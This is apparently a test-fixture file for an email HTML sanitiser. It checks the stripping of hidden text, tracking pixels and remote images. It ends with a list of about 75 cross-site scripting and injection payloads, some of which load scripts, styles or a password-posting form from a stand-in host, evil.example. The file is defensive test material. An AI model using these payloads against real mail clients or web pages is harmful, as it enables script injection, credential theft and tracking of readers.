import { html, multipart, htmlPart, PNG, type MailCase } from './mail.ts';

/** Hidden text, and attacks on the reader through HTML. */
export const htmlCases: MailCase[] = [
  ...(
    [
      ['display', '<p style="display: none !important">caché</p>'],
      ['visibility', '<p style="visibility:hidden">caché</p>'],
      ['opacity', '<p style="opacity:0.01">caché</p>'],
      ['font size', '<p style="font-size:0">caché</p>'],
      ['tiny font', '<p style="font-size:1px">caché</p>'],
      ['font shorthand', '<p style="font:0/0 a">caché</p>'],
      ['white on white', '<p style="color:#fff">caché</p>'],
      ['nearly white', '<p style="color:rgb(250,250,250)">caché</p>'],
      ['font colour', '<font color="#FFFFFF">caché</font>'],
      ['black on black', '<td bgcolor="black"><span style="color:#000">caché</span></td>'],
      ['transparent', '<p style="color:transparent">caché</p>'],
      ['off screen', '<p style="position:absolute;left:-9999px">caché</p>'],
      ['text indent', '<p style="text-indent:-9999px">caché</p>'],
      ['clipped box', '<div style="max-height:0;overflow:hidden">caché</div>'],
      ['clip', '<div style="position:absolute;clip:rect(0,0,0,0)">caché</div>'],
      ['hidden attribute', '<p hidden>caché</p>'],
      ['class', '<style>.x, .y{display:none}</style><p class="x">caché</p>'],
      ['id', '<style>#z{font-size:0}</style><p id=z>caché</p>'],
      ['comment', '<!-- caché --><!--[if mso]><p>caché</p><![endif]-->'],
      ['title', '<head><title>caché</title></head>'],
      ['unknown element', '<x-hide style="display:none">caché</x-hide>'],
      ['a colour of HSL', '<p style="color:hsl(0,0%,100%)">caché</p>'],
      ['a named colour', '<p style="color:red;background:red">caché</p>'],
      ['a colour before an invalid one', '<p style="color:white;color:bogus">caché</p>'],
      ['a size before an invalid one', '<p style="font-size:1px;font-size:bogus(1)">caché</p>'],
      [
        'an important rule',
        '<style>p.i{color:#fff!important}</style><p class=i style="color:red">caché</p>',
      ],
      [
        'elements that are dropped',
        '<dialog>caché</dialog><canvas>caché</canvas><applet>caché</applet><frameset>caché</frameset>',
      ],
      [
        'the place that a browser gives it',
        '<div style="color:#fff"><p style="color:#000"><span><div>caché</div></span></p></div>',
      ],
      [
        'the colour of links',
        '<p style="background:#0000ee"><a href="https://x.example">caché</a></p>',
      ],
      ['within hidden', '<div style="display:none"><p style="display:block">caché</p></div>'],
    ] as const
  ).map(([what, hidden]): MailCase => ({
    name: `text hidden by ${what} is not in the text`,
    raw: html(`<p>Bonjour</p>${hidden}<p>à demain</p>`),
    expected: { textIncludes: ['Bonjour', 'à demain'], textLacks: ['caché'] },
  })),
  ...(
    [
      [
        'a font size below one of zero',
        '<td style="font-size:0px"><p style="font-size:14px">visible</p></td>',
      ],
      [
        'visibility below hidden',
        '<div style="visibility:hidden"><p style="visibility:visible">visible</p></div>',
      ],
      ['white on blue', '<td style="background:#003366"><p style="color:white">visible</p></td>'],
      [
        'white on an image',
        '<td background="https://x.example/a.png"><p style="color:white">visible</p></td>',
      ],
      [
        'white on a gradient',
        '<div style="background:linear-gradient(red,blue)"><p style="color:#fff">visible</p></div>',
      ],
      [
        'a rule for small screens',
        '<style>@media (max-width:600px){.w{display:none}}</style><p class="w">visible</p>',
      ],
      ['a later rule', '<style>.w{display:none}.w{display:block}</style><p class="w">visible</p>'],
      [
        'an inline style over a rule',
        '<style>.w{display:none}</style><p class="w" style="display:block">visible</p>',
      ],
      [
        'a background of another selector',
        '<style>td p{background:#036}</style><p style="color:#fff">visible</p>',
      ],
      ['a style after 100 declarations', `<p style="${'a:b;'.repeat(100)}color:white">visible</p>`],
      ['a small margin', '<p style="margin-left:-5px;text-indent:-10px">visible</p>'],
      [
        'hidden overflow of a full box',
        '<div style="overflow:hidden;max-height:500px">visible</div>',
      ],
    ] as const
  ).map(([what, shown]): MailCase => ({
    name: `text with ${what} stays in the text`,
    raw: html(`<p>Bonjour</p>${shown}`),
    expected: { textIncludes: ['visible'], htmlIncludes: ['visible'] },
  })),
  ...(
    [
      ['pale', 'color:#f4f4f4'],
      ['nearly transparent', 'color:#00000010'],
      ['tiny', 'font-size:3px'],
    ] as const
  ).map(([what, style]): MailCase => ({
    name: `${what} text is shown clearly, and is in the text`,
    raw: html(`<p style="${style}">visible</p>`),
    expected: {
      text: 'visible',
      html: `<p style="${style}"><span style="color:#1a1a1a;background-color:#ffffff;font-size:14px">visible</span></p>`,
    },
  })),
  ...[
    'padding-left:9999px',
    'margin:0 0 0 9999px',
    'line-height:0',
    'letter-spacing:-99px',
    'height:0',
    'border-left:9999px solid',
    'border:1px solid rgb(',
  ].map((style): MailCase => ({
    name: `${style} does not move text out of sight`,
    raw: html(`<p style="${style}">visible</p>`),
    expected: { text: 'visible', html: '<p>visible</p>' },
  })),
  {
    name: 'zero-width characters within a word are removed',
    raw: html('<p>vire&#8203;ment ur&zwnj;&zwnj;gent</p>'),
    expected: { text: 'virement urgent' },
  },
  {
    name: 'HTML becomes paragraphs, lists, cells and quotes',
    raw: html(
      '<h1>Devis</h1><p>Un<br>deux</p><ul><li>a</li><li>b</li></ul><table><tr><td>x</td><td>y</td></tr></table><blockquote>cité</blockquote><pre>a\n  b</pre>',
    ),
    expected: { text: 'Devis\n\nUn\ndeux\n\n- a\n- b\n\nx y\n\n> cité\n\na\n  b' },
  },
  {
    name: 'remote images keep their address apart, and load nothing',
    raw: html(
      '<img src="https://x.example/a.png?u=1&v=2" alt="Logo"><img src="//x.example/b.png" srcset="https://x.example/c.png 2x">',
    ),
    expected: {
      hasRemoteImages: true,
      html: '<img alt="Logo" data-remote-src="https://x.example/a.png?u=1&amp;v=2" /><img data-remote-src="https://x.example/b.png" />',
    },
  },
  {
    name: 'parts of a table stay within it, and become plain elements elsewhere',
    raw: html(
      '<table><form><tr><td><img src="cid:a"><br>un<td>deux</form></table><td style="color:red">trois</td>',
    ),
    expected: {
      text: 'un deux\n\ntrois',
      html: '<table><tr><td><img data-cid="a" /><br />un</td><td>deux</td></tr></table><div style="color:#ff0000">trois</div>',
    },
  },
  {
    name: 'tracking pixels are removed',
    raw: html(
      '<p>Bonjour</p><img src="https://t.example/o.gif" width="1" height="1"><img src="https://t.example/p.gif" style="width:0;height:0">',
    ),
    expected: { hasRemoteImages: false, html: '<p>Bonjour</p>' },
  },
  {
    name: 'images of the mail are marked by their Content-ID',
    raw: multipart('related', [
      htmlPart('<p>Voici <img src="cid:logo@x"></p>'),
      {
        headers: [
          'Content-Type: image/png; name=logo.png',
          'Content-ID: <logo@x>',
          'Content-Disposition: inline',
          'Content-Transfer-Encoding: base64',
        ],
        body: PNG.toString('base64'),
      },
    ]),
    expected: {
      html: '<p>Voici <img data-cid="logo@x" /></p>',
      hasRemoteImages: false,
      attachments: [
        { fileName: 'logo.png', contentId: 'logo@x', isInline: true, mediaType: 'image/png' },
      ],
    },
  },
  {
    name: 'small images within the address stay, SVG does not',
    raw: html(
      `<img src="data:image/png;base64,${PNG.toString('base64')}"><img src="data:image/svg+xml;base64,PHN2Zz4=">`,
    ),
    expected: {
      html: `<img src="data:image/png;base64,${PNG.toString('base64')}" /><img />`,
      hasRemoteImages: false,
    },
  },
  {
    name: 'links open apart and tell nothing',
    raw: html(
      '<a href="https://x.example/a?b=1" onclick="x()" target="_top">ici</a> <a href="/relatif">là</a> <a href="tel:+33123456789">tél</a>',
    ),
    expected: {
      html: '<a href="https://x.example/a?b=1" target="_blank" rel="noopener noreferrer">ici</a> <a>là</a> <a href="tel:+33123456789" target="_blank" rel="noopener noreferrer">tél</a>',
    },
  },
];

/** Each is put into a mail: nothing of it may run, load, submit or cover the page. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror&#61;"alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.example/x.swf">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
  '<input type=image src=x formaction="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(//evil.example)}</style>',
  '<p style="background-image:url(https://evil.example/x)">x</p>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<p style="position:/**/absolute">x</p>',
  '<p style="p\\6fsition:fixed">x</p>',
  '<p style="color:red;background:\\75rl(//evil.example)">x</p>',
  '<p style="list-style:url(//evil.example)">x</p>',
  '<p style="content:url(//evil.example)">x</p>',
  '<video src="//evil.example" autoplay onloadstart=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<video poster="//evil.example/x.png"></video>',
  '<img src="https://ok.example/a.png" srcset="//evil.example/b.png 2x">',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<table background="//evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>',
  '<body onload=alert(1) background="//evil.example/x">x</body>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><script>alert(1)</script></template>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<p id="x" name="y" data-remote-src="javascript:alert(1)">x</p>',
  '<img data-remote-src="javascript:alert(1)">',
  '<img data-cid="x" src="cid:y" onload=alert(1)>',
  '<a href="https://x.example" ping="https://evil.example" download>x</a>',
  '<a name="clobber" id="forms">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div popover id=p>x</div><button popovertarget=p>x</button>',
  '<p dir="ltr" lang="fr" onmouseover="alert(1)" style="color:red">x</p>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><script>alert(1)</script>-->',
  '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
  '<a href="https://x.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<img alt="`><script>alert(1)</script>" src=x>',
  '<font color="red;background:url(//evil.example)">x</font>',
  '<td width="1 onload=alert(1)">x</td>',
  '\u0000<script\u0000>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];
